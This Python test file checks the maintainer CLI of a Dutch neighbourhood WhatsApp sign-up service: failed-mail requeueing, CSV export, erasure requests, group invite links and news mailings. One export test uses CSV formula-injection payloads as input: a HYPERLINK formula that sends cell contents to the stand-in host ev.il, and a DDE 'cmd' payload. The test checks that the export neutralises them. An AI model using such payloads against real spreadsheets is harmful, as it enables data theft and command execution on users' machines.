"""The maintainer's command line against a real emulator: see and requeue failed mail."""

from __future__ import annotations

import csv
import io

import pytest

from buurtwhatsapp import bootstrap, cli
from buurtwhatsapp.common.signed_links import Purpose
from buurtwhatsapp.common.spreadsheet_cells import restore
from buurtwhatsapp.mail.delivery import deliver
from buurtwhatsapp.model import MAIL, mail_document
from tests.integration.conftest import link

pytestmark = pytest.mark.emulator


@pytest.fixture
def failed_mail(firestore_client, clock, app_environment):
    document = mail_document(
        template="werkwijze",
        to="zoe@example.org",
        data={"name": "Zoë"},
        signup_id="s1",
        now=clock.now(),
    )
    document.update(status="failed", attempts=8, error="SMTP 550 at recipient")
    firestore_client.collection(MAIL).document("m1").create(document)
    return "m1"


def run(*argv: str) -> tuple[int, str]:
    out = io.StringIO()
    code = cli.main(list(argv), out=out)
    return code, out.getvalue()


def test_failed_mail_is_listed_with_its_reason_and_no_personal_data(failed_mail):
    code, output = run("mail", "failed")
    assert code == 0
    assert "m1" in output and "SMTP 550 at recipient" in output
    assert "1 failed mail(s)" in output
    assert "zoe@example.org" not in output and "Zoë" not in output


def test_show_gives_the_delivery_state_only(failed_mail):
    code, output = run("mail", "show", "m1")
    assert code == 0
    assert "status: failed" in output and "attempts: 8" in output
    assert "zoe@example.org" not in output


def test_requeue_puts_a_failed_mail_back_with_fresh_attempts(failed_mail, firestore_client):
    assert run("mail", "requeue", "m1")[0] == 0
    mail = firestore_client.collection(MAIL).document("m1").get().to_dict()
    assert mail["status"] == "queued"
    assert mail["max_attempts"] == 16

    code, output = run("mail", "requeue", "m1")
    assert code == 1
    assert "not found or not failed" in output


@pytest.fixture
def residents(function_client, firestore_client, valid_signup):
    """One confirmed resident of the village and one pending resident elsewhere."""
    signup = function_client("signup")
    signup.post("/signup", data={**valid_signup, "street": "Kagerdreef", "house_number": "3"})
    [village] = [doc.id for doc in firestore_client.collection("signups").stream()]
    function_client("confirm").post(link(Purpose.CONFIRM, village))
    signup.post(
        "/signup",
        data={**valid_signup, "name": "Sem", "email": "sem@example.org", "phone": "0623456789"},
    )
    return village


def test_export_writes_the_chosen_signups_as_csv(residents, tmp_path):
    target = tmp_path / "dorp.csv"
    code, output = run("signups", "export", "--group", "dorp", "--output", str(target))
    assert code == 0 and "1 sign-up(s) written" in output
    [row] = list(csv.DictReader(target.open(encoding="utf-8")))
    row = {field: restore(cell) for field, cell in row.items()}
    assert (row["id"], row["name"], row["phone"]) == (residents, "Zoë van 't Veld", "+31612345678")
    assert row["status"] == "confirmed"

    code, output = run("signups", "export", "--status", "pending")
    assert code == 0
    assert "sem@example.org" in output and "zoe@example.org" not in output


def test_the_export_runs_no_formula_in_a_spreadsheet_and_loses_nothing(
    function_client, firestore_client, valid_signup, tmp_path
):
    typed = {
        "name": '=HYPERLINK("https://ev.il/?"&E2&F2,"Klik hier")',
        "street": "-1+cmd|' /C calc'!A0",
        "remarks": "@SUM(1+1)\r\nen meer",
    }
    response = function_client("signup").post(
        "/signup", data={**valid_signup, **typed, "house_number": "7", "postcode": "2158 ZZ"}
    )
    assert response.status_code == 303

    target = tmp_path / "all.csv"
    assert run("signups", "export", "--output", str(target))[0] == 0
    [row] = list(csv.DictReader(target.open(encoding="utf-8", newline="")))

    for field in ("name", "street", "remarks", "phone"):
        assert row[field].startswith("'"), field  # a spreadsheet shows it as text
    restored = {field: restore(cell) for field, cell in row.items()}
    assert restored["name"] == typed["name"]
    assert restored["street"] == typed["street"]
    assert restored["remarks"] == "@SUM(1+1)\nen meer"
    assert restored["phone"] == "+31612345678"


def deliver_queued(firestore_client) -> None:
    """What the delivery function does with each queued mail (file transport)."""
    for snapshot in firestore_client.collection(MAIL).stream():
        deliver(snapshot.id, bootstrap.runtime().mailer)


@pytest.mark.parametrize("who", [("--email", "ZOE@example.org"), ("--phone", "06-12345678")])
def test_an_erasure_request_erases_the_resident_and_tells_their_coordinator(
    residents, firestore_client, who
):
    deliver_queued(firestore_client)  # the coordinator got the alert
    code, output = run("erase", *who)
    assert code == 0 and "sign-ups: 1 (the resident and their coordinator are told)" in output
    assert not firestore_client.collection("signups").document(residents).get().exists
    templates = {doc.get("template") for doc in firestore_client.collection(MAIL).stream()}
    assert {"left", "coordinator-remove"} <= templates


def test_an_erasure_request_also_finds_the_notices_of_an_earlier_leave(
    residents, firestore_client, function_client
):
    deliver_queued(firestore_client)
    run("erase", "--email", "zoe@example.org")  # the notices now wait to be sent
    waiting = [m for m in firestore_client.collection(MAIL).stream() if m.get("to")]
    assert {m.get("template") for m in waiting} == {"left", "coordinator-remove"}

    # The older command name is the same command.
    code, output = run("signups", "erase", "--phone", "+31612345678")
    assert code == 0
    assert "unsent mail about them (notices, handovers, digests): 2" in output
    assert [m.id for m in firestore_client.collection(MAIL).stream() if m.get("to")] == []
    assert run("erase", "--phone", "+31612345678")[0] == 1


def test_an_application_can_be_erased_on_request(function_client, firestore_client, valid_signup):
    application = {
        key: valid_signup[key]
        for key in ("name", "email", "phone", "street", "house_number", "postcode", "privacy")
    }
    function_client("coordinator").post(
        "/coordinator", data={**application, "motivation": "Graag."}
    )
    [application_id] = [doc.id for doc in firestore_client.collection("applications").stream()]

    assert run("applications", "erase", application_id)[0] == 0
    assert list(firestore_client.collection("applications").stream()) == []
    assert list(firestore_client.collection(MAIL).stream()) == []
    assert run("applications", "erase", application_id)[0] == 1


def test_groups_link_sets_replaces_and_clears_a_group_s_way_in(app_environment):
    store = bootstrap.runtime().store
    code, out = run("groups", "link", "dorp", "https://chat.whatsapp.com/C1adgkdEGki7554BWDdMkd")
    assert code == 0 and "invite mode" in out
    assert "C1adgkdEGki7554BWDdMkd" not in out  # not echoed: whoever holds it can ask to join
    assert store.group_invite("dorp") == "https://chat.whatsapp.com/C1adgkdEGki7554BWDdMkd"
    code, out = run("groups", "link", "dorp", "https://chat.whatsapp.com/Zx9adgkdEGki7554BWDd22")
    assert store.group_invite("dorp") == "https://chat.whatsapp.com/Zx9adgkdEGki7554BWDd22"
    code, out = run("groups", "link", "dorp", "--clear")
    assert code == 0 and "add mode" in out
    assert store.group_invite("dorp") is None


def test_groups_link_refuses_an_unknown_group_and_a_link_that_is_no_invite(app_environment):
    store = bootstrap.runtime().store
    code, out = run("groups", "link", "nergens", "https://chat.whatsapp.com/C1adgkdEGki7554BWDdMkd")
    assert code == 2 and 'no group has id "nergens"' in out
    code, out = run("groups", "link", "dorp", "https://wa.me/31612345678")
    assert code == 2 and out.startswith("url: not a WhatsApp group invite link")
    assert store.group_invite("dorp") is None and store.group_invite("nergens") is None


def test_checks_plan_counts_in_a_dry_run_and_says_what_it_did(app_environment):
    code, out = run("checks", "plan", "--dry-run")
    assert code == 0
    assert out.startswith("would plan for 0 member(s): a first yearly check")
    code, out = run("checks", "plan")
    assert code == 0 and out.startswith("planned for 0 member(s): a first yearly check")


@pytest.fixture
def news_file(tmp_path):
    path = tmp_path / "nieuws.md"
    path.write_text("# Informatieavond\n\nOp **12 maart** komt de wijkagent.\n", encoding="utf-8")
    return str(path)


@pytest.fixture
def two_members(firestore_client, clock, app_environment):
    from bench.journey import member_document

    for number in range(2):
        document = member_document(number, clock.now(), due_now=False)
        firestore_client.collection("signups").document(f"m{number}").set(document)


def news_mail_count(client, template="news") -> int:
    mails = client.collection(MAIL).stream()
    return sum((m.to_dict() or {}).get("template") == template for m in mails)


def test_news_dry_run_gives_the_count_and_the_text_and_sends_nothing(
    news_file, two_members, firestore_client, monkeypatch
):
    monkeypatch.setenv("NEWS_MAILS_PER_SECOND", "100")
    code, out = run("news", "send", "--subject", "Informatieavond", "--body-file", news_file,
                    "--dry-run")  # fmt: skip
    assert code == 0
    assert "to every group: would go to 2 member(s); 0 had it already. Nothing sent." in out
    assert "Onderwerp: Voorbeeld: Informatieavond" in out
    assert "Informatieavond\n===============" in out and "Op 12 maart komt de wijkagent." in out
    assert "lid0@example.org" not in out and "Lid 0" not in out
    assert news_mail_count(firestore_client) == 0


def test_news_is_sent_once_and_a_preview_only_to_the_maintainer(
    news_file, two_members, firestore_client, monkeypatch
):
    monkeypatch.setenv("NEWS_MAILS_PER_SECOND", "100")
    send = ("news", "send", "--subject", "Informatieavond", "--body-file", news_file)
    code, out = run(*send, "--to-me", "beheer@example.org")
    assert code == 0 and "one preview queued" in out and "nobody else" in out
    assert news_mail_count(firestore_client, "news-preview") == 1
    assert news_mail_count(firestore_client) == 0

    code, out = run(*send)
    assert code == 0 and "2 mail(s) queued now, 0 member(s) had it already, 0 left" in out
    code, out = run(*send)
    assert code == 0 and "was sent before: nothing sent" in out
    assert news_mail_count(firestore_client) == 2


@pytest.mark.parametrize(
    ("extra", "expected"),
    [
        (("--group", "nergens"), "error: no group 'nergens' in the deployment file"),
        (("--area", "maan"), "error: no area 'maan' in the deployment file"),
        (("--to-me", "beheer@"), "error: --to-me: not an address we can send to"),
    ],
)
def test_news_that_cannot_go_says_why(news_file, app_environment, extra, expected):
    code, out = run("news", "send", "--subject", "Nieuws", "--body-file", news_file, *extra)
    assert code == 2 and out.startswith(expected)


def test_news_without_a_readable_body_file_says_so(tmp_path, app_environment):
    missing = str(tmp_path / "weg.md")
    code, out = run("news", "send", "--subject", "Nieuws", "--body-file", missing)
    assert (
        code == 2 and out == f"--body-file {missing}: cannot read it (No such file or directory)\n"
    )
    latin = tmp_path / "latin.md"
    latin.write_bytes("café".encode("latin-1"))
    code, out = run("news", "send", "--subject", "Nieuws", "--body-file", str(latin))
    assert code == 2 and "not UTF-8 text" in out


def test_a_preview_and_a_dry_run_at_once_are_refused(news_file, app_environment, capsys):
    with pytest.raises(SystemExit) as refused:
        run("news", "send", "--subject", "Nieuws", "--body-file", news_file,
            "--to-me", "beheer@example.org", "--dry-run")  # fmt: skip
    assert refused.value.code == 2
    assert "not allowed with argument" in capsys.readouterr().err
